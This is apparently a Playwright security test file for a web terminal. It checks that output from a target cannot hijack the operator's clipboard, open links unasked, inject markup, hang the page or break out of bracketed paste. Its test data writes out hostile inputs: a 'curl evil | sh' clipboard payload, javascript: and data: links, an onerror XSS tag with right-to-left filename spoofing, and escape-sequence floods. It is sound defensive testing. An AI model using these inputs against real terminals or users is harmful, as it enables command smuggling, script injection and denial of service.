import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { openBrowser, openPageRig, type PageRig } from "../support/browser.ts";
import { createMemoryTarget, type MemoryPty } from "../support/memory-target.ts";
import { openShellOn, screenOf, shows } from "../support/page-parts.ts";
import { until } from "../support/until.ts";

let browser: Browser & AsyncDisposable;
beforeAll(async () => {
  browser = await openBrowser();
});
afterAll(() => browser[Symbol.asyncDispose]());

const base64 = (text: string) => Buffer.from(text).toString("base64");
const clipboard = "navigator.clipboard.readText()";

/** An operator's page on a target that prints what it likes; the clipboard may be used and holds "before". */
async function openVictim(): Promise<{ rig: PageRig; page: Page; pty: MemoryPty }> {
  const memory = createMemoryTarget({ name: "play" });
  const rig = await openPageRig(browser, { targets: [memory.target], dial: memory.dial });
  const page = await rig.open({ permissions: ["clipboard-read", "clipboard-write"] });
  await openShellOn(page, "play");
  await page.evaluate(() => navigator.clipboard.writeText("before"));
  return { rig, page, pty: memory.pty() };
}

describe("what a target prints", () => {
  test("never reads the clipboard, and writes it only after a yes", async () => {
    const { rig, page, pty } = await openVictim();
    await using _rig = rig;
    await pty.print("\x1b]52;c;?\x07");
    await pty.print(`\x1b]52;c;${base64("curl evil | sh\n")}\x07 seen`);
    const question = page.getByRole("dialog", { name: "May the target use your clipboard?" });
    await question.getByText("curl evil | sh").waitFor();
    expect(await page.evaluate(clipboard)).toBe("before");
    await question.getByRole("button", { name: "Refuse" }).click();
    await question.waitFor({ state: "detached" });
    await pty.print(`\x1b]52;c;${base64("again")}\x07 twice`);
    await shows(page, "twice");
    expect(await question.count()).toBe(0);
    expect(await page.evaluate(clipboard)).toBe("before");
    expect(pty.typed().toString()).toBe("");
  });

  test("opens no address by itself: javascript: is no link, and a web link asks and shows where it leads", async () => {
    const { rig, page, pty } = await openVictim();
    await using _rig = rig;
    await pty.print("\x1b]8;;javascript:window.owned=1\x1b\\AAAAAAAA\x1b]8;;\x1b\\\r\n");
    await pty.print("\x1b]8;;data:text/html,<script>1</script>\x1b\\BBBBBBBB\x1b]8;;\x1b\\\r\n");
    await pty.print("\x1b]8;;https://bank.example@evil.example/\x1b\\CCCCCCCC\x1b]8;;\x1b\\\r\n");
    await pty.print("\x1b]8;;https://evil.example/x\x1b\\https://bank.example\x1b]8;;\x1b\\\r\n");
    await shows(page, "https://bank.example");
    for (const row of [0, 1, 2]) await clickCell(page, 2, row);
    await clickCell(page, 2, 3);
    const question = page.getByRole("dialog", { name: "Open this address?" });
    await question.getByText("evil.example", { exact: true }).waitFor();
    const link = question.getByRole("link", { name: "Open in a new window" });
    expect(await link.getAttribute("href")).toBe("https://evil.example/x");
    expect(await link.getAttribute("rel")).toBe("noopener noreferrer");
    expect(await page.getByRole("dialog").count()).toBe(1);
    expect(await page.evaluate(() => "owned" in window)).toBe(false);
    expect(page.context().pages()).toHaveLength(1);
    await question.getByRole("button", { name: "Cancel" }).click();
  });

  test("stays text in titles: no markup, no control characters, no reversed direction, no length without end", async () => {
    const { rig, page, pty } = await openVictim();
    await using _rig = rig;
    const title = `<img src=x onerror=alert(1)>\u202egpj.exe\u200b${"long".repeat(200)}`;
    await pty.print(`\x1b]0;${title}\x07`);
    await page.locator(".shell-tab-title").waitFor();
    const shown = (await page.locator(".shell-tab-title").textContent()) ?? "";
    expect(shown.startsWith("<img src=x onerror=alert(1)>gpj.exe")).toBe(true);
    expect(shown.length).toBeLessThanOrEqual(80);
    expect(await page.locator("img[src]").count()).toBe(0);
    await page.getByRole("link", { name: "Sessions" }).click();
    expect(await page.locator("img[src]").count()).toBe(0);
  });

  test("cannot hang the page with huge counts, endless sequences or floods of titles, bells and questions", async () => {
    const { rig, page, pty } = await openVictim();
    await using _rig = rig;
    const huge = [..."@ABCDEFGILMPSTXZbd"].map((final) => `\x1b[2147483647${final}`).join("");
    await pty.print(huge.repeat(20));
    await pty.print(`\x1b[?${"9;".repeat(5000)}h\x1b]${"7".repeat(100_000)}\x1b\\\x1bP${"q".repeat(100_000)}\x1b\\`);
    await pty.print("\x1b]0;t\x07\x07\x1b[c\x1b[6n".repeat(2000));
    await pty.print("\x1bc\x1b[5;1Hstill alive");
    await shows(page, "still alive");
    await page.keyboard.type("q");
    await until(() => pty.typed().toString().endsWith("q"), "keys still arrive");
  });

  test("that asks the terminal is answered by the operator's alone, once, and not again after a reload", async () => {
    const { rig, page, pty } = await openVictim();
    await using _rig = rig;
    await pty.print("\x1b[3;7H\x1b[6n");
    await until(() => pty.typed().length > 0, "the terminal answers");
    expect(pty.typed().toString()).toBe("\x1b[3;7R");
    page.on("dialog", (dialog) => void dialog.accept());
    await page.reload();
    await page.locator("textarea:focus").waitFor({ state: "attached" });
    await page.keyboard.type("q");
    await until(() => pty.typed().toString().endsWith("q"), "keys arrive");
    expect(pty.typed().toString()).toBe("\x1b[3;7Rq");
  });
});

describe("what is pasted", () => {
  test("of several lines is asked about first, and cannot break out of a bracketed paste", async () => {
    const { rig, page, pty } = await openVictim();
    await using _rig = rig;
    await page.evaluate(() => navigator.clipboard.writeText("one\ntwo\u001b[201~\nthree"));
    await page.keyboard.press("Control+Shift+V");
    const question = page.getByRole("dialog", { name: "Paste several lines?" });
    await question.getByText("Control characters in it were taken out.").waitFor();
    expect(pty.typed().toString()).toBe("");
    await question.getByRole("button", { name: "Cancel" }).click();
    await question.waitFor({ state: "detached" });
    await pty.print("\x1b[?2004h asked for brackets");
    await shows(page, "asked for brackets");
    await page.locator("textarea:focus").waitFor({ state: "attached" });
    await page.keyboard.press("Control+Shift+V");
    await until(() => pty.typed().toString().endsWith("\x1b[201~"), "the paste arrives");
    expect(pty.typed().toString()).toBe("\x1b[200~one\rtwo[201~\rthree\x1b[201~");
  });
});

/** Clicks into a cell of the terminal in front, counted from 0. */
async function clickCell(page: Page, column: number, row: number): Promise<void> {
  const rows = (await screenOf(page)).length;
  const box = await page.locator(".xterm-screen").first().boundingBox();
  if (box === null) throw new Error("the terminal is not shown");
  const cell = box.height / rows;
  // Over the link first: what is under the pointer becomes a link when the pointer has been there.
  await page.mouse.move(box.x + (column + 0.5) * (cell / 2), box.y + (row + 0.3) * cell);
  await page.mouse.move(box.x + (column + 0.5) * (cell / 2) + 1, box.y + (row + 0.5) * cell);
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
  await page.mouse.down();
  await page.mouse.up();
}
